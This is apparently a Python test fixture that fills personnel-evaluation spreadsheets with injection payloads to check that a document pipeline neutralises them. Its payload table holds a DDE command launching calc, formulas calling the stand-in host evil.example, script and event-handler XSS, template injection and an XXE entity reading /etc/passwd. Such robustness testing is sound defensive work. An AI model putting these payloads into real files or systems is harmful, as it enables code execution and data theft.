"""An invented office that means harm: whatever a clerk can type carries one of thirteen payloads, in every paper that he sends.

The papers are filled in with marks in place of the harm (openpyxl would make a live formula of it itself); the harm is put
into their parts afterwards, as text. Each payload ends with a mark by which it is known again: kind and field.
"""

import io
import re
import zipfile
from dataclasses import replace
from datetime import date
from pathlib import Path
from types import SimpleNamespace
from xml.sax.saxutils import escape

from pipeline.documents.blank.form import blank_evaluation
from pipeline.documents.blank.goals import goals_form
from pipeline.documents.blank.history import history_form
from tests.blank_filling import Filling, filled, saved
from tests.drawing import ROUND, SETTINGS, draw
from tests.loop_office import LoopOffice, Papers, called, decided, last_saved, opened, opined
from tests.goals_office import OFFICE_SHEET, TOP, UNIT_SHEET
from tests.test_committee import filled as met
from tests.test_notice import filled as noted
from tests.test_plans import filled as planned
from tests.test_raises_form import filled as raised

FAR = "http://evil.example/"
KINDS = {
    "formula": "=1+1", "dde": "=cmd|' /C calc'!A0", "hyperlink": f'=HYPERLINK("{FAR}","x")', "webservice": f'=WEBSERVICE("{FAR}")',
    "tab": "\t=1+1\r\n@SUM(1;1)", "script": f'</script><script src="{FAR}">alert(1)</script>',
    "handler": '" onmouseover="alert(1)" x="<img src=x onerror=alert(1)>', "style": f'" style="background:url({FAR})"><style>@import "{FAR}";</style>',
    "link": f'javascript:alert(1) <a href="javascript:alert(1)">x</a> {FAR}', "braces": "{{ 7*7 }}{% include 'x' %}${7*7}",
    "entity": '&lt;b&gt; &#60;script&#62; ]]><!ENTITY x SYSTEM "file:///etc/passwd">&x;', "long": "ยาว" * 700,
    "bidi": "\u202e\u2066txt.exe\u2069\u200b"}
EXTREME = "ย" * 32_700              # as much as a cell holds
TYPED = ("full_name", "position", "level", "unit", "evaluator", "evaluator_position", "email")
TOLD_ON = date(2023, 4, 25)
TOKEN = re.compile(r"Qz(\d\d)(\w+?)zQ")


def token(kind: int, field: str) -> str:
    """What stands for the payload until it is put in."""
    return f"Qz{kind:02d}{field}zQ"


def mark(kind: int, field: str) -> str:
    """By what the payload is known again."""
    return f"zq{kind:02d}{field}qz"


def payload(kind: int, field: str) -> str:
    own = list(KINDS.values())[kind]
    if field == "sheet":
        return re.sub(r"[\[\]:*?/\\\t\r]", "", own)[:31 - len(mark(kind, field))].strip("'") + mark(kind, field)
    if field == "file":
        return own.replace("/", "")[:60] + mark(kind, field)
    if field == "indicator" and own.startswith("ยาว"):
        own = EXTREME[len(mark(kind, field)) + 1:]
    return f"{own} {mark(kind, field)}"


def harmful(workbook: bytes) -> bytes:
    """The workbook with its tokens turned into payloads, in every part."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook)) as before, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as after:
        for name in before.namelist():
            after.writestr(name, TOKEN.sub(_as_xml, before.read(name).decode("utf-8")) if name.endswith((".xml", ".rels")) else before.read(name))
    return out.getvalue()


def _as_xml(found: re.Match) -> str:
    said = escape(payload(int(found[1]), found[2]), {'"': "&quot;"})
    return said.replace("\t", "_x0009_").replace("\r", "_x000D_")


def people(shift: int) -> list[SimpleNamespace]:
    """One person a kind, the two personnel types in turn; a civil servant's level is a real one, so that raises are due."""
    return [_person(kind, is_civil=(kind + shift) % 2 == 1) for kind in range(len(KINDS))]


def _person(kind: int, is_civil: bool) -> SimpleNamespace:
    typed = {field: token(kind, field) for field in TYPED} | {"full_name": f"นาย{token(kind, 'full_name')} สมมติ{'กขคงจฉชซฌญฎฏฐ'[kind]}"}
    if is_civil:
        typed["level"] = "ชำนาญการ"
    return SimpleNamespace(**typed, person_id=f"{50_101 + kind}", scheme="civil_servant_38k2" if is_civil else "government_employee",
                           work_group="สำนักงาน", salary="30000", contract_from="2020-10-01", contract_to="2024-09-30", on_probation="")


def roster(one: SimpleNamespace) -> bytes:
    """A roster of one, its sheet named with harm too."""
    kind = int(one.person_id) - 50_101
    cells = {"เลขที่ตำแหน่ง": f'"{one.person_id}"', "ชื่อ-สกุล": one.full_name, "ประเภทบุคลากร": {
        "civil_servant_38k2": "บุคลากรทางการศึกษาอื่น 38 ค.(2)"}.get(one.scheme, "พนักงานราชการ"), "กลุ่มลักษณะงาน": one.work_group,
        "ตำแหน่ง": one.position, "ระดับ": one.level, "กลุ่ม/หน่วย/สถานศึกษา": one.unit, "ผู้ประเมิน": one.evaluator,
        "ตำแหน่งผู้ประเมิน": one.evaluator_position, "เงินเดือน/ค่าตอบแทน": one.salary, "อีเมล": one.email}
    return draw(f"[{token(kind, 'sheet')}]\n| {' | '.join(cells)} |\n| {' | '.join(cells.values())} |")


def filling(kind: int, one: SimpleNamespace) -> Filling:
    """The person's evaluation: 68 points, so that a plan is due; every text of his own a payload."""
    def said(field: str) -> str:
        return token(kind, field)
    rules = SETTINGS.schemes_for(ROUND)[one.scheme]
    elements = [*rules.achievement.elements, rules.achievement.elements[0]]
    names = [rule.name_th for rule in rules.competencies_for(one.work_group)]
    return Filling([(element, f"{said('indicator')} {place}", "3.4", "20") for place, element in enumerate(elements, 1)],
                   [said("goal")] * 5, [tuple(f"{said('target')} {level}" for level in range(1, 6))] * 5, dict.fromkeys(names, "3.4"), {}, {},
                   dict.fromkeys(names, said("note")), [("2022-12-20", "1", said("progress"), said("advice"))],
                   [(said("plan"), said("how"), said("when"))], said("remark"), date(2023, 4, 3))


def rosters(everybody: list[SimpleNamespace]) -> dict[str, bytes]:
    return {f"{payload(kind, 'file')} ทะเบียน.xlsx": harmful(roster(one)) for kind, one in enumerate(everybody)}


def first_papers(everybody: list[SimpleNamespace], forms: list[bytes]) -> dict[str, bytes]:
    """name → what is in the inbox beside the rosters; ``forms`` are everybody's blank forms, as the program prints them."""
    papers = {}
    for kind, (one, form) in enumerate(zip(everybody, forms, strict=True)):
        work, file_name = filling(kind, one), payload(kind, "file")
        stranger = SimpleNamespace(**vars(one) | {"person_id": token(kind, "number"), "full_name": token(kind, "stranger")})
        papers |= {f"{file_name} ประเมิน.xlsx": filled(form, work),
                   f"{file_name} ข้อตกลง.xlsx": last_saved(filled(form, replace(work.without_levels(), progress=[])), date(2022, 10, 5)),
                   f"{file_name} ใคร.xlsx": filled(blank_evaluation(stranger, SETTINGS, ROUND), work)}
    papers["เป้าหมาย.xlsx"] = goals(everybody)
    papers["คะแนนรอบก่อน.xlsx"] = history(everybody)
    return {name: harmful(content) for name, content in papers.items()}


def goals(everybody: list[SimpleNamespace]) -> bytes:
    """Goals of office and units, and a line of a unit that there is not."""
    book = opened(goals_form([one.unit for one in everybody], SETTINGS, ROUND))
    for kind, one in enumerate(everybody):
        for sheet, line in ((OFFICE_SHEET, (f"ส{kind}", token(kind, "office_goal"))),
                            (UNIT_SHEET, (one.unit if kind % 2 else token(kind, "no_unit"), f"{token(kind, 'code')}", token(kind, "unit_goal"), f"ส{kind}"))):
            for column, value in enumerate(line, 1):
                book[sheet].cell(TOP + kind, column).value = value
    return saved(book)


def history(everybody: list[SimpleNamespace]) -> bytes:
    book = opened(history_form([vars(one) for one in everybody], SETTINGS, ROUND))
    sheet = book.worksheets[0]
    for row in sheet.iter_rows():
        for kind, one in enumerate(everybody):
            if one.person_id in [cell.value for cell in row]:
                row[5].value, row[6].value = 61.5, token(kind, "former_remark")
    return saved(book)


def later_papers(papers: Papers, everybody: list[SimpleNamespace]) -> dict[str, bytes]:
    """What the office answers on the forms of the first run: its committee, registers, plans, opinions, decisions, raises."""
    def of_all(field: str) -> dict[str, str]:
        return {one.person_id: token(kind, field) for kind, one in enumerate(everybody)}
    kind_of = {one.person_id: kind for kind, one in enumerate(everybody)}
    reasons, members = of_all("reason"), [token(kind, "member") for kind in range(len(KINDS))]
    answers = {"forms/committee.xlsx": lambda form, _: met_all(form, everybody, reasons, members)}
    told = {one.person_id: {"told_on": TOLD_ON, "is_refused": "ไม่ลงนาม", "told_by": token(kind, "told_by"), "witness": token(kind, "witness"),
                            "remark": token(kind, "told_remark")} for kind, one in enumerate(everybody)}
    answers["forms/registers/"] = lambda form, _: noted(form, told)
    answers["forms/plans/"] = lambda form, kind: planned(form, {
        "สิ่งที่ต้องพัฒนา": token(kind, "matter"), "วิธีการพัฒนา": token(kind, "action"), "กำหนดแล้วเสร็จ": token(kind, "due"),
        "ผู้รับผิดชอบ": token(kind, "owner"), "หลักฐาน/ตัววัดความสำเร็จ": token(kind, "evidence"), "ผลการพัฒนา": token(kind, "outcome")})
    answers["forms/opinions/"] = lambda form, kind: opined(form, token(kind, "opinion"), date(2023, 4, 28))
    answers["forms/decisions.xlsx"] = lambda form, _: decided(form, {
        ("การพัฒนา", one.person_id): ("จัดทำแผนพัฒนา", date(2023, 5, 8), token(kind, "decision")) for kind, one in enumerate(everybody)})
    civil = {one.person_id for one in everybody if one.scheme.startswith("civil")}
    answers["forms/raises.xlsx"] = lambda form, _: raised(form, dict.fromkeys(civil, 1.5), remarks={
        person_id: said for person_id, said in of_all("raise_remark").items() if person_id in civil})
    return {f"กลับมา/{place} {Path(beginning).stem}.xlsx": harmful(answer(papers[name], kind_of.get(Path(name).stem, 0)))
            for beginning, answer in answers.items() for place, name in enumerate(papers.names(beginning))}


def met_all(form: bytes, everybody: list[SimpleNamespace], reasons: dict[str, str], members: list[str]) -> bytes:
    """The committee's list, everybody changed by a hair, on the sheet of either personnel type."""
    book = opened(met(form, {}, members=members, met=date(2023, 4, 20)))
    for sheet in book:
        columns = {cell.value: cell.column for cell in sheet[3]}
        if "คะแนนที่คณะกรรมการเห็นชอบ" not in columns:
            continue
        for row in range(4, sheet.max_row + 1):
            if reason := reasons.get(sheet.cell(row, columns["เลขที่ตำแหน่ง"]).value):
                sheet.cell(row, columns["คะแนนที่คณะกรรมการเห็นชอบ"]).value = 68.11
                sheet.cell(row, columns["เหตุผลที่ปรับคะแนน"]).value = reason
    return saved(book)


class PayloadOffice(LoopOffice):
    """The office after all its runs, and what other commands make of them."""

    def worked(self, everybody: list[SimpleNamespace], in_steps: bool) -> None:
        """Forms, evaluations, answers to what the first run printed; with ``in_steps`` the committee answers first, so that what
        its papers lead to is answered as well."""
        (self.home / "input" / ROUND.folder).mkdir(parents=True)
        (self.home / "config.toml").write_bytes(Path("config.toml").read_bytes())
        self.drop(ROUND, rosters(everybody))
        assert self.command("forms", ROUND).code == 0
        blank = {path.stem: path.read_bytes() for path in (self.results(ROUND) / "forms" / "blank").rglob("*.xlsx")}
        self.drop(ROUND, first_papers(everybody, [blank[one.person_id] for one in everybody]))
        first = self.run(ROUND, "first")
        answered = later_papers(first, everybody)
        if in_steps:
            self.drop(ROUND, {name: content for name, content in answered.items() if "committee" in name})
            answered = later_papers(self.run(ROUND, "reviewed"), everybody)
        self.drop(ROUND, {name: content for name, content in answered.items() if not in_steps or "committee" not in name})
        self.run(ROUND, "second")
        for command in ("forms", "packages"):
            said = self.command(command, ROUND)
            assert said.code == 0, said.err
        said = called("compare", self.home / "steps" / "first", self.home / "output", "--output", self.home / "changes")
        assert said.code == 0, said.err
